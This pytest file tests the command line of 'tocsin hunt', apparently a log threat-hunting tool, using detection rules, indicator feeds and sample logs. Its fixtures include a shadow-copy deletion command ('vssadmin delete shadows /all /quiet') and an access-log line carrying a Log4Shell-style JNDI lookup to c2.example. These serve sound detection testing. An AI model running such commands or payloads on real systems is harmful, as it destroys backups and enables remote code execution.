"""``tocsin hunt`` as a person runs it: a process, its output and its exit code."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

RULE = """
title: Shadow copies are deleted
id: 7c1f0a86-55d1-4c61-9d4c-2f5f6a2d1e01
status: test
level: high
tags: [attack.impact, attack.t1490]
logsource: {product: windows, category: process_creation}
detection:
    selection: {CommandLine|contains|all: [vssadmin, delete]}
    condition: selection
"""


def process(record: int, host: str, command: str) -> str:
    system = {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
        "EventID": 1,
        "EventRecordID": record,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": host,
        "TimeCreated": {"#attributes": {"SystemTime": f"2022-07-15T13:{record:02d}:00.000000Z"}},
    }
    data = {"Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": command}
    return json.dumps({"Event": {"System": system, "EventData": data}})


@pytest.fixture
def desk(tmp_path: Path):
    """A folder with logs and a rule, and a way to run the command there."""
    logs = tmp_path / "logs"
    logs.mkdir()
    quiet = process(1, "WS001.agency.example", "vssadmin list shadows")
    loud = process(2, "WS002.agency.example", "VSSADMIN.EXE Delete Shadows /all /quiet")
    (logs / "sysmon.json").write_text(f"{quiet}\n{loud}\n")
    (tmp_path / "rule.yml").write_text(RULE)
    kept = {**os.environ, "TOCSIN_CACHE": str(tmp_path / "cache"), "TOCSIN_DATA": str(tmp_path / "data")}

    def run(*arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-c", "from tocsin.cli.main import run; run()", *arguments]
        return subprocess.run(command, cwd=tmp_path, env=kept, capture_output=True, text=True, check=False)

    return run


def test_a_finding_is_told_written_and_shown_by_the_exit_code(desk, tmp_path):
    done = desk("hunt", "logs", "--rules", "rule.yml", "-o", "findings.jsonl")
    assert done.returncode == 1, done.stderr
    (line,) = (tmp_path / "findings.jsonl").read_text().splitlines()
    found = json.loads(line)
    assert found["host"] == "WS002.agency.example"
    assert found["techniques"] == ["T1490"]
    assert found["record"] == 2
    assert found["event"]["CommandLine"].startswith("VSSADMIN")
    assert "Shadow copies are deleted" in done.stdout
    assert "field of view" in done.stdout


def test_what_is_wrong_with_rules_is_counted_and_costs_no_other(desk, tmp_path):
    never = RULE.replace("2f5f6a2d1e01", "2f5f6a2d1e02").replace("selection: {", "selection: {EventID: 1, ")
    never = never.replace("condition: selection", "other: {EventID: 2}\n    condition: selection and other")
    odd = RULE.replace("2f5f6a2d1e01", "2f5f6a2d1e03").replace("level: high", "level: grave")
    (tmp_path / "more.yml").write_text(f"{never}---{odd}")
    done = desk("hunt", "logs", "--rules", "rule.yml", "--rules", "more.yml")
    assert done.returncode == 1, done.stderr
    assert "not loaded: 1 rule or indicator" in done.stdout
    assert "can never match: EventID is asked to be '1' and also '2'" in done.stdout
    assert "hunted with a remark: 1 rule or indicator" in done.stdout
    assert "level 'grave' is taken for 'medium'" in done.stdout
    checked = desk("rules", "check", "more.yml")
    assert checked.returncode == 1
    assert "warning: more.yml  " in checked.stdout
    assert "1 of 2 rules load, no tests, 1 with warnings" in checked.stdout


def test_nothing_found_is_zero_and_still_says_what_was_seen(desk):
    done = desk("hunt", "logs", "--rules", "rule.yml", "--host", "WS001")
    assert done.returncode == 0, done.stderr
    assert "Nothing found" in done.stdout
    assert "1 known host" in done.stdout


def test_only_events_of_the_asked_hosts_count_as_asked(desk):
    assert desk("ingest", "logs", "--lake", "lake", "--origin", "agency").returncode == 0
    asked = ("hunt", "--lake", "lake", "--rules", "rule.yml")
    one = desk(*asked, "--host", "WS001")
    assert "1 event on WS001 asked of 1 detection" in one.stdout
    within = ("--since", "2022-07-15T13:02Z", "--json")
    counts = [
        json.loads(desk(*asked, *named, *within).stdout)["events"]
        for named in (("--host", "WS002"), ("--host", "WS001"), ("--origin", "agency"))
    ]
    assert counts == [1, 0, 1]
    everything = json.loads(desk(*asked, "--origin", "agency", "--json").stdout)
    assert everything["events"] == 2


@pytest.mark.parametrize(
    ("option", "told", "hosts"),
    [
        (("--host", "ws001"), "host ws001", ["WS001"]),
        (("--origin", "agency"), "origin agency", ["WS001", "WS002"]),
        (("--logsource", "product=windows"), "rules for windows", ["WS001", "WS002"]),
        (("--since", "2022-07-15"), "time from 2022-07-15 on", ["WS001", "WS002"]),
    ],
)
def test_the_field_of_view_is_of_what_the_hunt_was_limited_to(desk, tmp_path, option, told, hosts):
    assert desk("ingest", "logs", "--lake", "lake", "--origin", "agency").returncode == 0
    asked = ("hunt", "--lake", "lake", "--rules", "rule.yml", *option)
    done = desk(*asked, "-o", "page.html")
    assert f"limited to {told}: findings and field of view alike" in done.stdout
    assert f"{len(hosts)} known host" in done.stdout
    page = (tmp_path / "page.html").read_text("utf-8")
    assert f"of {len(hosts)} known host" in page
    assert (f"<dt>Limited to</dt><dd>{told}" in page) != (option[0] == "--since")
    found = json.loads(desk(*asked, "--json").stdout)
    assert sorted(host["name"].partition(".")[0] for host in found["field_of_view"]["hosts"]) == hosts
    assert any(found["limited_to"].values())


def test_where_nothing_was_asked_nothing_is_said_to_be_found(desk):
    done = desk("hunt", "logs", "--rules", "rule.yml", "--level", "critical")
    assert done.returncode == 2
    assert "Nothing was asked" in done.stdout
    assert "0 events asked of 0 detections" in done.stdout
    beyond = desk("hunt", "logs", "--rules", "rule.yml", "--since", "2030-01-01")
    assert "Nothing was asked: no event lies in what was hunted" in beyond.stdout
    assert "asked from 2030-01-01 on: no log covers these days, logs of 2022-07-15" in beyond.stdout
    assert "Nothing found" not in done.stdout + beyond.stdout


def test_findings_on_stdout_are_nothing_but_findings(desk):
    done = desk("hunt", "logs", "--rules", "rule.yml", "--format", "jsonl")
    assert [json.loads(line)["rule_id"] for line in done.stdout.splitlines()]


def test_json_is_one_document_with_the_field_of_view(desk):
    done = desk("hunt", "logs", "--rules", "rule.yml", "--json")
    told = json.loads(done.stdout)
    assert told["levels"] == {"high": 1}
    assert len(told["field_of_view"]["hosts"]) == 2


def test_history_is_hunted_again_from_the_lake(desk):
    assert desk("ingest", "logs", "--lake", "lake", "--origin", "agency").returncode == 0
    done = desk("hunt", "--lake", "lake", "--rules", "rule.yml", "--since", "2022-07-15T13:02Z", "--json")
    assert done.returncode == 1
    assert json.loads(done.stdout)["findings"][0]["origin"] == "agency"
    later = ("hunt", "--lake", "lake", "--rules", "rule.yml", "--since", "2022-07-15T14:00Z", "--host")
    assert desk(*later, "WS001").returncode == desk(*later[:-3], "--until", "2022-07-15").returncode == 2


@pytest.mark.parametrize(
    ("option", "why"),
    [
        (("--since", "2030-01-01"), "no event lies in what was hunted"),
        (("--host", "WS001", "--since", "2022-07-15T14:00Z"), "no event lies in what was hunted"),
        (("--rules", "proxy.yml"), "every detection is blind on all that was hunted"),
    ],
)
def test_a_lake_in_which_nothing_was_asked_is_an_error_and_nothing_found_is_not(desk, tmp_path, option, why):
    proxy = "title: P\nlogsource: {category: proxy}\ndetection: {s: {c-uri: /gate}, condition: s}\n"
    (tmp_path / "proxy.yml").write_text(proxy)
    assert desk("ingest", "logs", "--lake", "lake", "--origin", "agency").returncode == 0
    rules = () if "--rules" in option else ("--rules", "rule.yml")
    done = desk("hunt", "--lake", "lake", *rules, *option)
    assert done.returncode == 2
    assert f"nothing was asked: {why}" in " ".join(done.stderr.split())
    assert f"Nothing was asked: {why}" in done.stdout


def test_a_log_that_was_removed_is_not_found_again(desk, tmp_path):
    (tmp_path / "logs" / "more.json").write_text(process(3, "WS003", "vssadmin delete shadows") + "\n")
    assert len(json.loads(desk("hunt", "logs", "--rules", "rule.yml", "--json").stdout)["findings"]) == 2
    (tmp_path / "logs" / "more.json").unlink()
    assert len(json.loads(desk("hunt", "logs", "--rules", "rule.yml", "--json").stdout)["findings"]) == 1


def test_suppressions_are_counted(desk, tmp_path):
    (tmp_path / "tuning.toml").write_text(
        '[[suppress]]\nrule = "Shadow copies are deleted"\nreason = "test laboratory"\nhost = "WS002"\n'
    )
    done = desk("hunt", "logs", "--rules", "rule.yml", "--tuning", "tuning.toml")
    assert done.returncode == 0
    assert "suppressed 1" in done.stdout


def test_a_suppression_of_no_rule_is_said(desk, tmp_path):
    (tmp_path / "tuning.toml").write_text('[[suppress]]\nrule = "Shadow copy"\nreason = "misspelt"\n')
    done = desk("hunt", "logs", "--rules", "rule.yml", "--tuning", "tuning.toml")
    assert done.returncode == 1
    assert "no rule of this hunt has this id or title" in done.stdout


def test_an_origin_that_the_lake_does_not_know_is_an_error(desk):
    assert desk("ingest", "logs", "--lake", "lake", "--origin", "agency").returncode == 0
    done = desk("hunt", "--lake", "lake", "--rules", "rule.yml", "--origin", "ministry")
    assert done.returncode == 2
    assert "no origin ministry is known here" in done.stderr
    assert "agency" in done.stderr
    assert desk("hunt", "--lake", "lake", "--rules", "rule.yml", "--origin", "agency").returncode == 1


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (("hunt", "logs", "--rules", "rule.yml", "--host", "NOSUCH"), "no host NOSUCH is known here"),
        (
            ("hunt", "logs", "-o", "absent/found.html"),
            "absent/found.html: cannot be written: there is no folder absent",
        ),
        (("hunt", "logs", "-o", "logs"), "logs: cannot be written: it is a folder"),
        (("hunt",), "nothing to hunt in"),
        (("hunt", "absent"), "no such file"),
        (("hunt", "--lake", "absent"), "no lake"),
        (("hunt", "logs", "--since", "yesterday"), "not a time"),
        (("hunt", "logs", "--timezone", "Mars/Olympus"), "no time zone"),
    ],
)
def test_an_error_says_what_and_what_to_do_next(desk, arguments, said):
    done = desk(*arguments)
    assert done.returncode == 2
    assert said in done.stderr
    assert "try:" in done.stderr


def test_a_rule_that_cannot_load_is_named_and_drops_no_other(desk, tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "good.yml").write_text(RULE)
    (rules / "bad.yml").write_text(RULE.replace("contains|all", "resembles").replace("2d1e01", "2d1e02"))
    done = desk("hunt", "logs", "--rules", "rules")
    assert done.returncode == 1
    assert "not loaded: 1" in done.stdout
    assert "bad.yml" in done.stdout


def test_findings_in_a_log_without_a_host_are_of_the_one_that_is_said(desk, tmp_path):
    (tmp_path / "logs/web1").mkdir()
    line = '198.51.100.7 - - [12/May/2022:03:00:01 +0000] "GET /?x=${jndi:ldap://c2.example/a} HTTP/1.1" 200 10 "-" "curl/8"\n'
    (tmp_path / "logs/web1/access.log").write_text(line)
    done = desk("hunt", "logs/web1", "--host-of", "logs/{host}/*", "--json")
    told = json.loads(done.stdout)
    assert {finding["host"] for finding in told["findings"]} == {"web1"}
    assert [host["name"] for host in told["field_of_view"]["hosts"]] == ["web1"]
    other = desk("hunt", "logs/web1", "--host-of", "logs/{host}/*", "--host", "web2")
    assert other.returncode == 2
    assert "no host web2 is known here" in other.stderr
    assert "web1" in other.stderr


def test_hosts_of_logs_are_said_only_where_logs_are_taken_in(desk):
    desk("ingest", "logs", "--lake", "lake")
    done = desk("hunt", "--lake", "lake", "--host-of", "web1")
    assert done.returncode == 2
    assert "--host-of" in done.stderr


def test_a_url_is_found_in_its_parts_and_lists_are_named_by_what_they_hold(desk, tmp_path):
    fields = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs-host sc-status"
    lines = [
        "#Software: Microsoft Internet Information Services 10.0",
        f"#Fields: {fields}",
        "2022-07-15 10:00:01 10.0.0.9 GET /gate x=1 443 10.0.0.1 evil.example 200",
        "2022-07-15 10:00:02 10.0.0.9 GET /gate x=2 443 10.0.0.1 evil.example 200",
    ]
    (tmp_path / "logs" / "web.log").write_text("\n".join(lines) + "\n")
    (tmp_path / "feed.txt").write_text("- hxxps://evil[.]example/gate?x=1\n- file:///C:/Temp/a.exe\n")
    done = desk("hunt", "logs", "--indicators", "feed.txt", "-o", "found.jsonl")
    assert done.returncode == 1, done.stderr
    (found,) = map(json.loads, (tmp_path / "found.jsonl").read_text().splitlines())
    assert found["indicators"][0]["value"] == "https://evil.example/gate?x=1"
    asked = [line.split() for line in done.stdout.splitlines() if " of feed.txt  " in line]
    assert asked == [
        ["URLs", "of", "feed.txt", "1", "1", "of", "3", "33", "%"],
        ["file", "paths", "of", "feed.txt", "1", "2", "of", "3", "66", "%"],
    ]
    page = desk("hunt", "logs", "--indicators", "feed.txt", "--format", "html").stdout
    assert '<th scope="row">URLs of feed.txt</th>' in page
    told = json.loads(desk("hunt", "logs", "--indicators", "feed.txt", "--json").stdout)
    assert {one["name"] for one in told["field_of_view"]["classes"]} == {
        "URLs of feed.txt",
        "file paths of feed.txt",
    }


def test_a_search_ends_without_a_word_of_the_libraries_below_it(desk, tmp_path):
    assert desk("ingest", "logs", "--origin", "x", "--lake", "lake").returncode == 0
    done = desk("search", "--lake", "lake", "vssadmin")
    assert "vssadmin list shadows" in done.stdout
    assert not done.stderr
